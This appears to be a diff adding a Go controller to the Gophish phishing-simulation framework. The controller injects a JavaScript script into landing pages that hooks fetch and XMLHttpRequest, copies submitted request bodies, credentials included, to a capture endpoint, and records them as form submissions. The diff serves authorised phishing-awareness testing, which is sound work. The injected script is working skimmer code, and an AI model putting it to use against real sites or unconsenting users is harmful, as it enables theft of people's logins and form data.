@@ -0,0 +1,194 @@
+package controllers
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"regexp"
+	"strings"
+
+	ctx "github.com/gophish/gophish/context"
+	log "github.com/gophish/gophish/logger"
+	"github.com/gophish/gophish/models"
+)
+
+// CapturePath is the path the capture script sends captured data to
+const CapturePath = "/capture"
+
+// maxCapturedDataSize is the largest payload accepted from the capture script
+const maxCapturedDataSize = 64 << 10
+
+// captureScript is injected into landing pages which use it. Single page apps
+// usually submit their forms using XMLHttpRequest or fetch rather than a form
+// POST, so the script copies the bodies of those requests to the capture
+// endpoint as JSON.
+const captureScript = `<script>(function () {
+  var endpoint = %s + "?" + %s + "=" + encodeURIComponent(%s);
+  var origFetch = window.fetch;
+  var origSend = XMLHttpRequest.prototype.send;
+  function toObject(body) {
+    if (!body) {
+      return null;
+    }
+    if (typeof body === "string") {
+      try {
+        return JSON.parse(body);
+      } catch (e) {}
+      if (window.URLSearchParams && body.indexOf("=") !== -1) {
+        return toObject(new URLSearchParams(body));
+      }
+      return { data: body };
+    }
+    if ((window.FormData && body instanceof FormData) || (window.URLSearchParams && body instanceof URLSearchParams)) {
+      var o = {};
+      body.forEach(function (v, k) {
+        if (typeof v === "string") {
+          o[k] = k in o ? [].concat(o[k], v) : v;
+        }
+      });
+      return o;
+    }
+    return null;
+  }
+  function capture(body) {
+    var data = toObject(body);
+    if (!data) {
+      return;
+    }
+    var payload = JSON.stringify(data);
+    if (origFetch) {
+      origFetch.call(window, endpoint, {
+        method: "POST",
+        headers: { "Content-Type": "application/json" },
+        body: payload,
+        keepalive: true
+      }).catch(function () {});
+      return;
+    }
+    var xhr = new XMLHttpRequest();
+    xhr.open("POST", endpoint, true);
+    xhr.setRequestHeader("Content-Type", "application/json");
+    origSend.call(xhr, payload);
+  }
+  if (origFetch) {
+    window.fetch = function (input, init) {
+      try {
+        if (init && init.body) {
+          capture(init.body);
+        } else if (input && input.clone && input.method !== "GET" && input.method !== "HEAD") {
+          input.clone().text().then(capture, function () {});
+        }
+      } catch (e) {}
+      return origFetch.apply(this, arguments);
+    };
+  }
+  XMLHttpRequest.prototype.send = function (body) {
+    try {
+      capture(body);
+    } catch (e) {}
+    return origSend.apply(this, arguments);
+  };
+})();</script>`
+
+var (
+	headTag = regexp.MustCompile(`(?i)<head(\s[^>]*)?>`)
+	htmlTag = regexp.MustCompile(`(?i)<html(\s[^>]*)?>`)
+)
+
+// injectCaptureScript adds the capture script to the start of the page, so
+// that it runs before the page's own scripts make any requests.
+func injectCaptureScript(html string, rid string) string {
+	quote := func(s string) string {
+		// Marshaling escapes <, > and &, so the strings can't end the
+		// script element
+		q, _ := json.Marshal(s)
+		return string(q)
+	}
+	script := fmt.Sprintf(captureScript, quote(CapturePath), quote(models.RecipientParameter), quote(rid))
+	return injectScript(html, script)
+}
+
+// injectScript adds the script to the start of the page's head, so that it
+// runs before the page's own scripts.
+func injectScript(html string, script string) string {
+	for _, tag := range []*regexp.Regexp{headTag, htmlTag} {
+		if loc := tag.FindStringIndex(html); loc != nil {
+			return html[:loc[1]] + script + html[loc[1]:]
+		}
+	}
+	return script + html
+}
+
+// CaptureHandler records the data sent by the capture script as submitted
+// data for the given Result.
+func (ps *PhishingServer) CaptureHandler(w http.ResponseWriter, r *http.Request) {
+	if r.Method != "POST" {
+		http.NotFound(w, r)
+		return
+	}
+	var er *models.EventRequest
+	if ps.config.CaptureRequests {
+		var err error
+		er, err = models.NewEventRequest(r, ps.config.CaptureMaxBodySize)
+		if err != nil {
+			log.FromContext(r.Context()).Error(err)
+		}
+	}
+	r, err := setupContext(r)
+	if err != nil {
+		// Log the error if it wasn't something we can safely ignore
+		if err != ErrInvalidRequest && err != ErrCampaignComplete {
+			log.FromContext(r.Context()).Error(err)
+		}
+		http.NotFound(w, r)
+		return
+	}
+	// Check for a preview
+	if _, ok := ctx.Get(r, "result").(models.EmailRequest); ok {
+		w.WriteHeader(http.StatusNoContent)
+		return
+	}
+	rs := ctx.Get(r, "result").(models.Result)
+	rid := ctx.Get(r, "rid").(string)
+	c := ctx.Get(r, "campaign").(models.Campaign)
+	d := ctx.Get(r, "details").(models.EventDetails)
+
+	// Check for a transparency request
+	if strings.HasSuffix(rid, TransparencySuffix) {
+		ps.TransparencyHandler(w, r)
+		return
+	}
+
+	p, err := models.GetPage(c.PageId, c.UserId)
+	if err != nil {
+		log.FromContext(r.Context()).Error(err)
+		http.NotFound(w, r)
+		return
+	}
+	body, err := ioutil.ReadAll(io.LimitReader(r.Body, maxCapturedDataSize+1))
+	if err != nil {
+		log.FromContext(r.Context()).Error(err)
+		http.Error(w, http.StatusText(http.StatusBadRequest), http.StatusBadRequest)
+		return
+	}
+	if len(body) > maxCapturedDataSize {
+		http.Error(w, http.StatusText(http.StatusRequestEntityTooLarge), http.StatusRequestEntityTooLarge)
+		return
+	}
+	captured, err := models.ParseCapturedData(body)
+	if err != nil {
+		http.Error(w, err.Error(), http.StatusBadRequest)
+		return
+	}
+	for k, v := range p.FilterCapturedData(captured) {
+		d.Payload[k] = append(d.Payload[k], v...)
+	}
+	d.Request = p.FilterEventRequest(er)
+	err = recordEvent(r, models.EventDataSubmit, rs.HandleFormSubmit, p.ScoreCapturedPasswords(rs.BaseRecipient, d))
+	if err != nil {
+		log.FromContext(r.Context()).Error(err)
+	}
+	w.WriteHeader(http.StatusNoContent)
+}